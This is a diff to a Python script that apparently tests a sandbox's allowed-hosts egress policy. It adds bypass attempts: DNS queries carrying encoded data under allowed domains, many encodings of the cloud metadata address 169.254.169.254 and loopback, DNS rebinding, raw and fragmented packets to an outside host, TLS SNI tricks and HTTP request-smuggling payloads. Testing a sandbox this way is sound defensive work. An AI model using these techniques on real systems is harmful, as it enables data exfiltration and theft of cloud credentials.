@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
 """Ways past a list of allowed hosts. Each attempt prints its name and what it ended with: "worked" when the far end
-(tests/bats/egress_attacks.bats) was made to do what the policy does not allow, else an errno, a DNS code, "alert-112"
+(tests/bats/egress_attacks_*.bats) was made to do what the policy does not allow, else an errno, a DNS code, "alert-112"
 for a TLS alert, "403" for a refused request, "closed" for a connection that ended without a word."""
 import ctypes
 import errno
@@ -40,6 +40,8 @@ def judge(message, answer):
     code = CODES.get(flags & 15, str(flags & 15))
     if code != "noerror":
         return code
+    if answer[12:len(message)] != message[12:]:
+        return "strange"  # not the question, in these very letters
     return "worked" if answers else "nodata"
 
 
@@ -66,9 +68,13 @@ attempts({
     "name_denied_tcp": (question(b"evil.test"), "127.0.0.1", True),
     "name_of_another_server": (question(b"evil.test"), "1.2.3.4"),
     "name_of_another_server_tcp": (question(b"evil.test"), "1.2.3.4", True),
+    "name_of_metadata": (question(b"metadata.google.internal"),),
+    "alias_of_a_site": (question(b"unlisted.test"),),  # whose CNAME a name server follows to a site
     "text_of_denied": (question(b"c2VjcmV0.evil.test", 16),),
     "text_below_allowed": (question(b"c2VjcmV0.allowed.test", 16),),
     "address_below_allowed": (question(b"c2VjcmV0.allowed.test"),),
+    "text_below_wildcard": (question(b"c2VjcmV0.wild.test", 16),),
+    "address_below_wildcard": (question(b"c2VjcmV0.wild.test"),),
     "wildcard_itself": (question(b"wild.test"),),
     "wildcard_as_a_tail": (question(b"evilwild.test"),),
     "nul_in_a_name": (question(None, raw=b"\x0eallowed.test\0x\4evil\4test\0"),),
@@ -76,6 +82,13 @@ attempts({
     "control_in_a_name": (question(b"allowed\n.test"),),
     "pointer_to_itself": (question(None, raw=b"\xc0\x0c"),),
     "pointer_loop": (question(None, raw=b"\1a\xc0\x0c"),),
+    "pointer_forwards": (question(None, raw=b"\xc0\x12") + b"\7allowed\4test\0",),
+    "pointer_beyond": (question(None, raw=b"\xff\xff"),),
+    "label_of_64": (question(None, raw=b"\x40" + b"a" * 64 + b"\4test\0"),),
+    "name_of_256": (question(b".".join([b"a" * 63] * 3 + [b"a" * 57, b"test"])),),
+    "address_as_a_name": (question(b"169.254.169.254"),),
+    "number_as_a_name": (question(b"2852039166"),),
+    "good_name_case": (question(b"aLLowed.TEST"),),
     "two_questions": (question(b"allowed.test", count=2) + question(b"evil.test")[12:],),
     "keys_of_allowed": (question(b"allowed.test", 65),),  # HTTPS: would hold an ECH configuration
 }, ask)
@@ -121,14 +134,34 @@ def get(host, port=80):
 attempts({
     "literal": ("1.2.3.4",),
     "literal_v6": ("2001:db8::1",),
+    "literal_tls_resolver": ("1.2.3.4", 853),
     "private": ("10.0.0.1",),
+    "private_v6": ("fd12::1",),
+    "host_loopback": ("127.0.0.1",),
+    "host_loopback_short": ("127.1",),
+    "host_loopback_number": ("2130706433",),
+    "host_loopback_name": ("localhost",),
+    "host_loopback_mapped": ("::ffff:127.0.0.1",),
+    "host_loopback_v6": ("::1",),
+    "host_zero": ("0.0.0.0",),
+    "host_zero_short": ("0",),
+    "host_zero_v6": ("::",),
     "metadata": ("169.254.169.254",),
     "metadata_number": ("2852039166",),
     "metadata_hexadecimal": ("0xa9fea9fe",),
+    "metadata_capitals": ("0XA9FEA9FE",),
     "metadata_octal": ("0251.0376.0251.0376",),
+    "metadata_mixed": ("0xa9.254.0251.0xfe",),
     "metadata_two_parts": ("169.16689662",),
+    "metadata_three_parts": ("169.254.43518",),
     "metadata_mapped": ("::ffff:169.254.169.254",),
     "metadata_mapped_hexadecimal": ("::ffff:a9fe:a9fe",),
+    "metadata_nat64": ("64:ff9b::169.254.169.254",),
+    "metadata_compatible": ("::169.254.169.254",),
+    "metadata_translated": ("::ffff:0:169.254.169.254",),
+    "metadata_6to4": ("2002:a9fe:a9fe::1",),
+    "metadata_v6": ("fd00:ec2::254",),
+    "another_port_tls_resolver": ("allowed.test", 853),
     "another_port": ("allowed.test", 81),
     "another_port_below_wildcard": ("a.wild.test", 81),
     "resolves_to_private": ("private.test",),
@@ -136,15 +169,24 @@ attempts({
     "resolves_to_metadata": ("metadata.test",),
     "resolves_to_mapped": ("mapped.test",),
     "resolves_to_nat64": ("nat64.test",),
+    "resolves_to_compatible": ("compatible.test",),
+    "resolves_to_translated": ("translated.test",),
+    "resolves_to_6to4": ("6to4.test",),
+    "resolves_by_an_alias": ("alias.test",),
+    "resolves_to_both": ("both.test",),
     "resolves_to_zero": ("zero.test",),
     "resolves_to_unique_local": ("uniquelocal.test",),
     "resolves_below_wildcard": ("private.wild.test",),
 }, get)
 
 
+attempts({"synthetic_of_nobody": ("198.18.200.1",), "synthetic_of_nobody_v6": ("fd00:9800::c801",)}, get)
+
+
 @attempt
-def synthetic_of_nobody():
-    return get("198.18.200.1")
+def rebinding():
+    """A name that is at a public address when it is first looked up, and at a private one from then on."""
+    return get("rebind.test") if get("rebind.test") == "worked" else "first-failed"
 
 
 @attempt
@@ -179,8 +221,9 @@ def with_option(level, option, value):
 
 
 attempts({
-    "mark": (socket.SOL_SOCKET, socket.SO_MARK, 1),
+    "mark": (socket.SOL_SOCKET, socket.SO_MARK, int(os.environ.get("MARK", "1"), 0)),
     "device": (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0"),
+    "device_eth0": (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0"),
     "ip_options": (socket.IPPROTO_IP, 4, b"\x07\x07\x04\0\0\0\0\0"),  # record route
 }, with_option)
 
@@ -218,6 +261,64 @@ def packet_socket():
 def raw_socket():
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP):
         return "worked"
+
+
+attempts({"link_local": ("fe80::1%eth0", 7000), "gateway": ("10.77.0.1", 7000)}, get)
+
+
+def answered(send):
+    """Sends a datagram past the sockets of UDP, as from one of them, which is to get the answer."""
+    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+        s.bind(("::", 0))
+        s.settimeout(5)
+        send(struct.pack(">4H", s.getsockname()[1], 443, 16, 0) + b"datagram")
+        return "worked" if s.recv(100) else "strange"
+
+
+def header(length, protocol=17, fragment=0):
+    """Of IPv4, from the container to evil.test; the kernel fills the checksum in where it can."""
+    fields = struct.pack(">2B3H2BH", 0x45, 0, 20 + length, 0x4711, fragment, 64, protocol, 0)
+    fields += socket.inet_aton("10.77.0.2") + socket.inet_aton("1.2.3.4")
+    total = sum(struct.unpack(">10H", fields))
+    total = (total & 0xffff) + (total >> 16)
+    return fields[:10] + struct.pack(">H", ~(total + (total >> 16)) & 0xffff) + fields[12:]
+
+
+def send_frame(datagram):
+    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as s:
+        s.sendto(header(len(datagram)) + datagram, ("eth0", 0x0800, 0, 0, bytes.fromhex("020000000001")))
+
+
+def send_raw(datagram):
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
+        s.sendto(header(len(datagram)) + datagram, ("1.2.3.4", 0))
+
+
+def send_raw_fragments(datagram):
+    """The ports alone in the first one."""
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
+        s.sendto(header(8, 17, 0x2000) + datagram[:8], ("1.2.3.4", 0))
+        s.sendto(header(len(datagram) - 8, 17, 1) + datagram[8:], ("1.2.3.4", 0))
+
+
+def send_raw_extension(datagram):
+    """IPv6, behind a header with options for the destination."""
+    ends = socket.inet_pton(socket.AF_INET6, "2001:db8:77::2") + socket.inet_pton(socket.AF_INET6, "2001:db8::1")
+    total = sum(struct.unpack(">16H", ends)) + 17 + len(datagram) + sum(struct.unpack(">8H", datagram))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    datagram = datagram[:6] + struct.pack(">H", ~total & 0xffff) + datagram[8:]
+    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
+        s.sendto(struct.pack(">IHBB", 6 << 28, 8 + len(datagram), 60, 64) + ends + b"\x11\0\1\4\0\0\0\0" + datagram, ("2001:db8::1", 0))
+
+
+attempts({
+    "frame": (send_frame,),
+    "raw": (send_raw,),
+    "raw_fragments": (send_raw_fragments,),
+    "raw_extension": (send_raw_extension,),
+}, answered)
 
 
 # -- TLS --------------------------------------------------------------------------------------------------------------
@@ -268,6 +369,8 @@ attempts({
     "sni_two": (records(hello(names(b"allowed.test", b"evil.test"))),),
     "sni_twice": (records(hello(names(b"allowed.test") + names(b"evil.test"))),),
     "sni_nul": (records(hello(names(b"allowed.test\0.evil.test"))),),
+    "sni_control": (records(hello(names(b"allowed\n.test"))),),
+    "sni_outer_other": (records(hello(names(b"evil.test") + extension(0xfe0d, b"\0\0\1\0\1\1\0\x20" + bytes(32) + b"\0\x20" + bytes(32)))),),
     "sni_last_dot": (records(hello(names(b"allowed.test."))),),
     "sni_address": (records(hello(names(b"1.2.3.4"))),),
     "sni_below": (records(hello(names(b"x.allowed.test"))),),
@@ -278,6 +381,15 @@ attempts({
     "good_by_bytes": (records(hello(names(b"allowed.test"))), 1),
     "good_64_kib_by_bytes": (records(hello(PADDING + names(b"allowed.test"))), 1),
 }, say_hello)
+
+
+@attempt
+def hello_of_ssl_2():
+    """The way in which clients of old offered TLS to servers of SSL 2; it has no room for a name."""
+    data = b"\1\3\1" + struct.pack(">3H", 3, 0, 16) + b"\0\0\x2f" + bytes(16)
+    with connect("allowed.test", 443) as s:
+        answer = exchange(s, struct.pack(">H", 0x8000 | len(data)) + data, b"\x15\3")
+        return "worked" if answer == "worked" and not answer.startswith("alert") else answer
 
 
 @attempt
@@ -358,6 +470,12 @@ attempts({
                        b"0\r\n\r\n" % (5 + len(EVIL)) + EVIL, LENIENT),
     "smuggled_two_lengths": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n" %
                              len(EVIL) + EVIL, LENIENT),
+    "smuggled_two_codings": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n"
+                             b"0\r\n\r\n" + EVIL, LENIENT),
+    "smuggled_other_coding": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + EVIL, LENIENT),
+    "smuggled_coding_of_10": (b"POST / HTTP/1.0\r\nHost: lenient.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL, LENIENT),
+    "smuggled_length_sign": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nContent-Length: +0\r\n\r\n" + EVIL, LENIENT),
+    "smuggled_chunk_length": (b"POST / HTTP/1.1\r\nHost: lenient.test\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + EVIL, LENIENT),
     "smuggled_bare_lf": (EVIL.replace(b"\r\n", b"\n"), LENIENT),
     "smuggled_blank_before_colon": (b"GET / HTTP/1.1\r\nHost: lenient.test\r\nHost : evil.test\r\n\r\n", LENIENT),
     "smuggled_fold": (b"GET / HTTP/1.1\r\nHost: lenient.test\r\nX: y\r\n z\r\n\r\n", LENIENT, None, b"reached"),
@@ -399,8 +517,9 @@ def run(name):
 
 
 # What servers differ about, down to not answering at all: of no interest where there is no sandbox.
-DIFFER = {"nul_in_a_name", "dot_in_a_label", "control_in_a_name", "pointer_to_itself", "pointer_loop", "two_questions",
-          "sni_two", "sni_twice", "sni_nul", "resolves_to_nat64", "synthetic_of_nobody"}
+DIFFER = {"nul_in_a_name", "dot_in_a_label", "control_in_a_name", "pointer_to_itself", "pointer_loop", "pointer_forwards",
+          "pointer_beyond", "label_of_64", "name_of_256", "address_as_a_name", "number_as_a_name", "two_questions",
+          "sni_two", "sni_twice", "sni_nul", "sni_control", "synthetic_of_nobody", "synthetic_of_nobody_v6", "quic_allowed"}
 
 if __name__ == "__main__":
     words = sys.argv[1:]
